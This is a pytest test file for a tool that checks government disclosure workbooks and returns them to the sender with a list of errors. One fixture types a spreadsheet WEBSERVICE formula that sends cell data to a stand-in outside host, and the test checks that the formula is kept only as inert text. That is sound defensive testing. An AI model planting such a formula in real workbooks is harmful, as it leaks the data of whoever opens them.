"""Issue 5, point 1: the workbook that goes back. It holds what was typed, says what is wrong, and mends nothing itself."""

import re
import shutil
from collections.abc import Callable
from datetime import date
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from govxl.filing.model import Judgement
from govxl.findings.finding import Finding
from govxl.office.outbox import new_workbook
from govxl.returns.check import Expected, judge
from govxl.xlsx.reader import read_workbook
from tests.commands import run
from tests.office import Formula, Office
from tests.returns import (
    CHECKS,
    COVER,
    PROACTIVE,
    REQUESTS,
    REVIEW,
    UNIT,
    accepted,
    error,
    figure,
    filled,
    formula,
    judged,
    layout_of,
    parts_of,
    put,
    words,
)
from tests.sent_back import sent_back, sent_back_anew
from tests.tampering import comment, copy_sheet, honest_insert, remove, stray, together

LIST = "退回问题清单"
D6, D7, B6 = (REQUESTS, "D6"), (REQUESTS, "D7"), (PROACTIVE, "B6")

MISTAKES: dict[tuple[str, str], tuple[str, ...]] = {
    D6: (words("12件"), words("无"), figure("12.5"), figure("-3"), figure("1E+16"), error("#REF!"), formula("A1*2"), ""),
    D7: (figure("20"), words("/"), ' t="b"|<v>1</v>', words("十二"), formula('"二"')),
    (REQUESTS, "E8"): (figure("3.5"), words("１２"), formula("2+1", "3"), words("=2+1")),
    (REQUESTS, "F29"): (figure("7"),),
    B6: (words("22（其中修订16件）"), figure("0.5"), error("#N/A")),
    (PROACTIVE, "B16"): (figure("4166.2416195"), figure("99999"), words("3万元")),
    (REVIEW, "B6"): (words("没有"), figure("2.5")),
    (REVIEW, "G1"): (words("随便填"),),
    (COVER, "B15"): ("", words("示例县和平路1号\u200b")),
    (COVER, "B20"): (words("二十六元"), figure("26.555")),
    ("五、问题改进", "B4"): (words("无"), error("#NAME?"), formula("A1")),
}
"""What people get wrong, cell by cell, as other programs leave it in the file."""


@cache
def of(data: bytes) -> Judgement:
    return judged(data)


def said(findings: tuple[Finding, ...]) -> list[tuple[Any, ...]]:
    """Give all that is found in values and by rules, down to the words."""
    found = [each for each in findings if each.code[0] in "VR"]
    return sorted((f.code, f.severity, f.rule, f.at, [c.point for c in f.cells], f.actual or "", f.expected or "") for f in found)


def book_of(data: bytes) -> Any:
    return openpyxl.load_workbook(BytesIO(data))


# -- Nothing is lost, nothing is cured


@settings(max_examples=30)
@given(st.dictionaries(st.sampled_from(list(MISTAKES)), st.integers(0, 7), min_size=1, max_size=5))
def test_what_goes_back_gives_the_findings_of_what_was_sent(chosen: dict[tuple[str, str], int]) -> None:
    sent = put(accepted(), {place: MISTAKES[place][n % len(MISTAKES[place])] for place, n in chosen.items()})
    first = of(sent)
    if first.accepted or any(found.blocks and found.code[0] in "FIS" for found in first.findings):
        return
    back = sent_back(sent)
    assert said(judged(back).findings) == said(first.findings)
    assert said(judged(sent_back(sent, name="filled-退回修改.xlsx")).findings) == said(first.findings)


RIGHT: dict[tuple[str, str], object] = {D6: 12, D7: 2, B6: 6, (PROACTIVE, "B16"): 4166.241619, (REVIEW, "B6"): 5}


@pytest.mark.parametrize("place", RIGHT)
@pytest.mark.parametrize("nth", range(3))
def test_corrected_it_is_as_if_the_original_had_been_corrected(place: tuple[str, str], nth: int) -> None:
    sent = put(accepted(), {place: MISTAKES[place][nth % len(MISTAKES[place])]})
    corrected = typed(sent_back(sent), {place: RIGHT[place]})
    assert judged(corrected).record == record_like(judged(typed(sent, {place: RIGHT[place]})), corrected)


def typed(data: bytes, values: dict[tuple[str, str], object]) -> bytes:
    """Type into a workbook with openpyxl."""
    book = book_of(data)
    for (sheet, cell), value in values.items():
        book[sheet][cell] = value
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def record_like(judgement: Judgement, data: bytes) -> dict[str, Any]:
    """Give a record, with the source of another file."""
    assert judgement.record
    other = judged(data).record
    assert other
    return dict(judgement.record) | {"source": other["source"]}


def test_corrected_in_libreoffice_it_is_as_if_the_original_had_been_corrected(office: Office, tmp_path: Path) -> None:
    wrong: dict[tuple[str, str], str] = {place: MISTAKES[place][0] for place in RIGHT}
    sent, back = tmp_path / "sent.xlsx", tmp_path / "back.xlsx"
    sent.write_bytes(put(accepted(), wrong))
    back.write_bytes(sent_back(sent.read_bytes()))
    fixed = [office.fill_and_save(path, RIGHT, tmp_path / f"fixed-{path.name}").read_bytes() for path in (sent, back)]
    records = [judged(data).record for data in fixed]
    assert records[0]
    assert records[1]
    assert records[0] | {"source": None} == records[1] | {"source": None}
    mended = {found.name for found in judged(fixed[1]).findings if found.severity != "info"}
    assert mended == set(), "no mark of ours counts against them"


def test_everything_typed_is_kept_as_it_was_typed() -> None:
    back = book_of(sent_back(put(accepted(), {
        D6: words("12件"), D7: error("#REF!"), (REQUESTS, "E8"): ' t="b"|<v>1</v>', B6: words("22（其中修订16件）"),
        (REQUESTS, "E6"): formula("1+2", "3"), (REQUESTS, "F6"): formula('WEBSERVICE("http://x/?"&A1)'),
    })))  # fmt: skip
    cells = [back[sheet][cell].value for sheet, cell in (D6, D7, (REQUESTS, "E8"), B6, (REQUESTS, "E6"), (REQUESTS, "F6"))]
    assert cells == ["12件", "#REF!", True, "22（其中修订16件）", "=1+2", '="=WEBSERVICE(""http://x/?""&A1)"']
    assert back[COVER]["B15"].value == "示例县和平路1号"
    assert back[PROACTIVE]["B17"].value == "制发的6件中，\n有2件是修订。"


def test_a_date_in_a_figure_stays_a_date() -> None:
    book = book_of(accepted())
    book[REQUESTS]["D6"] = date(2026, 5, 2)
    out = BytesIO()
    book.save(out)
    back = sent_back(out.getvalue())
    assert book_of(back)[REQUESTS]["D6"].value.date() == date(2026, 5, 2)
    (found,) = [found for found in judged(back).findings if found.code == "V013"]
    assert found.cells[0].point == "requests.received.person"


WRONG = {"requests.received.person": 20}


@pytest.mark.parametrize(
    ("deed", "where", "what"),
    [
        (stray(REQUESTS, 6, "L6", "联系人出差，下周补"), f"{REQUESTS} L6", "联系人出差，下周补"),
        (copy_sheet(REQUESTS, "草稿"), "草稿 D6", "20"),
        (comment(REQUESTS), f"{REQUESTS} D6", "请再核对"),
    ],
    ids=["beside the table", "on a sheet of their own", "in a comment"],
)
def test_what_was_written_outside_the_form_is_listed(deed: Callable[[bytes], bytes], where: str, what: str) -> None:
    sent = deed(filled(WRONG))
    rows = [[str(cell.value or "") for cell in row] for row in book_of(sent_back(sent))[LIST].iter_rows()]
    heading = next(n for n, row in enumerate(rows) if row[0].startswith("没有读取的内容"))
    listed = {f"{row[1]} {row[2]}": row[4] for row in rows[heading + 1 :]}
    assert where in listed
    assert what in listed[where]


def test_what_cannot_be_placed_is_said_and_the_rest_kept() -> None:
    sent = together(remove(REVIEW))(filled())
    back = judged(sent_back(sent))
    assert {found.name for found in back.findings if found.blocks} == {"blank-table", "content-not-restored", "returned-unchanged"}
    assert back.reading
    assert back.reading.values["requests.received.person"] == 12


# -- What it looks like


def test_it_is_a_fresh_workbook_but_for_its_contents() -> None:
    """Locks, validations, names, formulas, widths and print areas are those of a workbook just made."""
    back = book_of(sent_back(put(honest_insert(PROACTIVE, 9)(filled(WRONG)), {B6: words("22件")})))
    fresh = book_of(new_workbook(UNIT, 2025, "zfxxgk/2021", code="GOV01", level="county", kind="government"))
    assert back.sheetnames == fresh.sheetnames
    assert {n: d.attr_text for n, d in back.defined_names.items()} == {n: d.attr_text for n, d in fresh.defined_names.items()}
    assert back.security.lockStructure
    for sheet in fresh.worksheets:
        ours = back[sheet.title]
        assert ours.protection.sheet
        assert ours.print_area == sheet.print_area
        assert _cells(ours, sheet.title) == _cells(sheet, sheet.title)
        assert _validations(ours) == _validations(sheet)


def _cells(sheet: Any, name: str) -> dict[str, tuple[bool, str]]:
    """Give the lock of every cell, and the formula of those that compute."""
    own = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row if name != LIST or cell.row <= 4}
    formulas = {at: cell.value if cell.data_type == "f" else "" for at, cell in own.items()}
    return {at: (cell.protection.locked, formulas[at] or "") for at, cell in own.items() if cell.has_style}


def _validations(sheet: Any) -> set[tuple[str, ...]]:
    return {(str(v.sqref), v.type or "", v.formula1 or "", v.prompt or "") for v in sheet.data_validations.dataValidation}


def test_it_opens_with_the_list_of_what_is_wrong() -> None:
    sent = put(filled({**WRONG, "cover.phone": None, "proactive.fees.amount": 60000}), {B6: words("22件")})
    book = book_of(sent_back(sent, remarks=("请周五前改好。", "第二张表请法规科核对。")))
    assert (book.sheetnames[0], book.active.title, book[LIST].sheet_state) == (LIST, LIST, "visible")
    rows = [[cell.value for cell in row[:7]] for row in book[LIST].iter_rows()]
    assert rows[1][0].startswith("第 1 次退回（2026年1月25日）：必须改正 2 处，需说明 1 处，请核实 1 处。")
    assert rows[2][2] == "请周五前改好。\n第二张表请法规科核对。"
    assert rows[3] == ["序号", "工作表", "单元格", "问题", "原因", "怎么改", "定位"]
    headings = [row[0] for row in rows[4:] if row[0] and not row[1]]
    assert headings == ["必须改正（2 处）", "需说明（1 处）", "请核实（1 处）"]
    lines = {row[0]: row[1:4] for row in rows[4:] if row[1]}
    assert list(lines) == ["1", "2", "3", "4"], "the same rule broken in two columns is one line"
    assert lines["1"] == [PROACTIVE, "B6", "数字格里有文字（V004）"]
    assert lines["2"] == [REQUESTS, "D6、D7、D29、D30", "勾稽不符：收到和办理件数（tie-out）\n自然人"]
    why = next(row[4] for row in rows if row[0] == "2")
    assert "左边 20＋2＝22，右边 13＋1＝14，右边" not in why
    assert "左边 20＋2＝22，右边 13＋1＝14，左边多 8 件" in why
    assert why.endswith("同样的问题还有：总计。")


def test_its_links_lead_to_where_something_is_to_be_typed() -> None:
    book = book_of(sent_back(filled({**WRONG, "proactive.fees.amount": 60000})))
    links = {cell.row: cell.hyperlink.location for row in book[LIST].iter_rows(min_row=5) for cell in row if cell.hyperlink}
    places = [location.replace("'", "") for location in links.values()]
    assert places[0] == f"{REQUESTS}!D6"
    reason = layout_of().slots["reason.C5.proactive"].box
    assert places[1] == f"{CHECKS}!{reason.address}"


def test_each_failing_cell_says_what_is_wrong_since_when_and_how_to_mend_it() -> None:
    book = book_of(sent_back(put(accepted(), {B6: words("22件")})))
    (told,) = [cell.comment.text for row in book[PROACTIVE].iter_rows() for cell in row if cell.comment]
    assert told.startswith("【退回 2026-01-25】\n\n必须改正：数字格里有文字（V004）\n")
    assert "填的是“22件”，不是数字。\n怎么改：请只填 22，不写“件”，并核对单位" in told
    assert book[PROACTIVE]["B6"].comment
    long, short = heights(sent_back(filled({"proactive.fees.amount": 60000}))), heights(sent_back(put(accepted(), {B6: words("22件")})))
    assert max(long) > 1.3 * max(short), "a comment is as high as its text"


def heights(data: bytes) -> list[float]:
    """Give the heights of the comments, in points, as Excel draws them."""
    drawings = [part.decode() for name, part in parts_of(data).items() if "vmlDrawing" in name]
    return [float(found) for text in drawings for found in re.findall(r"height:([0-9.]+)pt", text)]


CHANGES: dict[tuple[str, str], list[tuple[object, object]]] = {
    D6: [(20, 21), ("12件", 12)],
    D7: [(9, None), (9, "9")],
    B6: [("很长" * 200, "很长" * 200 + "。"), ("甲", "乙"), (None, 0)],
}


@pytest.mark.parametrize(("place", "before", "after"), [(p, b, a) for p, pairs in CHANGES.items() for b, a in pairs])
def test_the_colour_goes_when_the_cell_changes(
    office: Office, tmp_path: Path, place: tuple[str, str], before: object, after: object
) -> None:
    """LibreOffice works the condition of the colour out, before and after somebody types."""
    path = tmp_path / "back.xlsx"
    path.write_bytes(sent_back(typed(accepted(), {place: before})))
    found = book_of(path.read_bytes())[place[0]].conditional_formatting._cf_rules.items()
    test = [rule.formula[0] for areas, rules in found for rule in rules if str(areas.sqref) == place[1]][-1]
    scratch = (place[0], "Z90")
    states = office.refill(path, [{scratch: Formula(f"={test}")}, {place: after}], only=[place[0]])
    assert [bool(state[scratch]) for state in states] == [True, False]


# -- Once more


def test_sent_back_unchanged_it_says_so_and_is_not_sent_again(tmp_path: Path) -> None:
    (tmp_path / "filled.xlsx").write_bytes(filled(WRONG))
    assert run("ingest", tmp_path / "filled.xlsx").code == 1
    back = tmp_path / "filled-退回修改.xlsx"
    done = run("ingest", back)
    assert done.code == 1
    assert "I014" in done.out
    assert {path.name for path in tmp_path.iterdir()} == {"filled.xlsx", "filled-退回修改.xlsx"}


def test_a_second_return_has_its_number_even_under_another_name(tmp_path: Path) -> None:
    first = typed(sent_back(filled(WRONG)), {D6: 30})
    for name, expected in (("filled-退回修改.xlsx", "filled-退回修改2.xlsx"), ("甲局.xlsx", "甲局-退回修改2.xlsx")):
        (tmp_path / name).write_bytes(first)
        run("ingest", tmp_path / name)
        assert (tmp_path / expected).exists()
    second = book_of((tmp_path / "filled-退回修改2.xlsx").read_bytes())
    assert second[LIST]["A2"].value.startswith("第 2 次退回")
    (tmp_path / "filled-退回修改2.xlsx").write_bytes(typed((tmp_path / "filled-退回修改2.xlsx").read_bytes(), {D6: 31}))
    run("ingest", tmp_path / "filled-退回修改2.xlsx")
    assert (tmp_path / "filled-退回修改3.xlsx").exists()


def test_a_return_that_was_worked_in_is_never_written_over(tmp_path: Path) -> None:
    sent, back = tmp_path / "filled.xlsx", tmp_path / "filled-退回修改.xlsx"
    sent.write_bytes(filled(WRONG))
    run("ingest", sent)
    first = back.read_bytes()
    assert run("ingest", sent, "--on", "2026-02-01").code == 1
    assert back.read_bytes() != first, "one that nobody touched is made again"
    back.write_bytes(mine := typed(first, {D6: 30}))
    done = run("ingest", sent)
    assert done.code == 1
    assert back.read_bytes() == mine
    assert "没有覆盖" in done.err


def test_under_a_password_one_that_nobody_touched_is_made_again(tmp_path: Path) -> None:
    sent, secret = tmp_path / "filled.xlsx", tmp_path / "secret"
    sent.write_bytes(filled(WRONG))
    secret.write_text("open sesame")
    for day in ("2026-01-25", "2026-02-01"):
        done = run("ingest", sent, "--password-file", secret, "--on", day)
        assert (done.code, done.err) == (1, "")


def test_a_folder_is_taken_in_again_without_what_waits_for_its_sender(tmp_path: Path) -> None:
    (tmp_path / "a.xlsx").write_bytes(filled(WRONG))
    (tmp_path / "b.xlsx").write_bytes(accepted())
    assert run("ingest", tmp_path).code == 1
    done = run("ingest", tmp_path)
    assert [line.split()[:2] for line in done.lines if line.startswith(("退回", "通过"))] == [["退回", "a.xlsx"], ["通过", "b.xlsx"]]
    assert "跳过" in done.err
    corrected = typed((tmp_path / "a-退回修改.xlsx").read_bytes(), {D6: 12})
    (tmp_path / "a.xlsx").unlink()
    (tmp_path / "a-退回修改.xlsx").write_bytes(corrected)
    done = run("ingest", tmp_path)
    assert done.code == 0
    assert (tmp_path / "示例县人民政府2025" / "record.json").exists()


def test_our_own_marks_are_no_findings_after_an_ordinary_save(office: Office, tmp_path: Path) -> None:
    path = tmp_path / "back.xlsx"
    path.write_bytes(sent_back(put(accepted(), {B6: words("22件")})))
    saved = judged(office.round_trip(path, tmp_path / "saved.xlsx").read_bytes())
    assert {found.code for found in saved.findings} <= {"V004", "V017", "S015", "S016", "S017", "I014"}


def test_the_list_may_be_thrown_away() -> None:
    fixed = typed(sent_back(filled(WRONG)), {D6: 12})
    book = book_of(fixed)
    del book[LIST]
    out = BytesIO()
    book.save(out)
    done = judged(out.getvalue())
    assert done.record
    assert [found.name for found in done.findings if found.severity == "warning"] == []


def test_the_same_file_and_day_give_the_same_bytes() -> None:
    sent = put(accepted(), {B6: words("22件"), D6: error("#REF!")})
    assert sent_back_anew(sent) == sent_back(sent)


# -- Whose it is


def test_it_stays_the_units_with_its_time_of_issue_and_seal() -> None:
    key = b"a key of sixteen bytes and more"
    sent = filled(WRONG, key=key)
    with_key, without = (sent_back(sent, expected=Expected(key=k)) for k in (key, b""))
    for back in (with_key, without):
        told = judge(back, "back.xlsx", Expected(key=key))
        assert not {found.name for found in told.findings} & {"seal-broken", "seal-absent"}
        assert told.reading
        assert told.reading.told == of(sent).reading.told  # type: ignore[union-attr]


@pytest.mark.parametrize("how", [{"unit": "另一个县"}, {"year": 2024}, {"form": "zfxxgk/2019"}])
def test_what_its_sender_cannot_mend_is_not_sent_back(how: dict[str, Any], tmp_path: Path) -> None:
    (tmp_path / "filled.xlsx").write_bytes(accepted())
    options = [word for key, value in how.items() for word in (f"--{key}", str(value))]
    assert run("ingest", tmp_path / "filled.xlsx", *options).code == 1
    assert [path.name for path in tmp_path.iterdir()] == ["filled.xlsx"]


def test_a_workbook_of_an_older_layout_goes_back_in_the_current_one(tmp_path: Path) -> None:
    old = Path(__file__).parent / "frozen" / "issue-3" / "county.xlsx"
    path = Path(shutil.copy(old, tmp_path / "county.xlsx"))
    path.write_bytes(typed(path.read_bytes(), {D6: 999}))
    run("ingest", path)
    back = (tmp_path / "county-退回修改.xlsx").read_bytes()
    assert "older-layout" in {found.name for found in of(path.read_bytes()).findings}
    assert "older-layout" not in {found.name for found in of(back).findings}
    assert said(of(back).findings) == said(of(path.read_bytes()).findings)
    assert not isinstance(read_workbook(back), Finding)


@pytest.mark.parametrize("nth", range(4))
def test_its_formulas_show_what_libreoffice_works_out(office: Office, tmp_path: Path, nth: int) -> None:
    """What a preview shows before anything is recalculated is right, with everybody's mistakes in the cells."""
    path = tmp_path / "back.xlsx"
    wrong = {place: contents[nth % len(contents)] for place, contents in MISTAKES.items()}
    wrong = {place: content for place, content in wrong.items() if 't="b"' not in content}  # a number to LibreOffice
    path.write_bytes(sent_back(put(accepted(), wrong)))
    cached, worked = office.cached_and_worked_out(path)
    formulas = [(slot.box.sheet, slot.box.address) for slot in layout_of().slots.values() if slot.formula is not None]
    different = {place: (cached.get(place), worked.get(place)) for place in formulas if cached.get(place) != worked.get(place)}
    assert different == {}
    assert len(formulas) > 200
